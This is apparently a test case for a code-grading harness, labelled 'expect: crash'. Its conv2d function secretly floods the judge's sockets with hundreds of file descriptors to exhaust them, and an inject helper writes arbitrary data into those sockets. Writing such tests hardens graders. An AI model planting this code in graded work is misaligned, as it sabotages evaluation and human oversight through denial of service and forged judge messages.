# expect: crash
# attack: Hundreds of descriptors are passed over the socket to use up those of the judge.
import os
import socket
import stat


def sockets():
    """Descriptors of every socket that this process holds."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue


def inject(data):
    for descriptor in sockets():
        rest = data
        while rest:
            try:
                rest = rest[os.write(descriptor, rest) :]
            except BlockingIOError:
                continue  # the judge has not read the first part yet
            except OSError:
                break


def conv2d(x, w):
    null = os.open(os.devnull, os.O_RDONLY)
    for descriptor in sockets():
        connection = socket.socket(fileno=os.dup(descriptor))
        try:
            for _ in range(20):
                socket.send_fds(connection, [b"\xff\xff\xff\xff"], [null] * 100)
        except OSError:
            continue
    return x
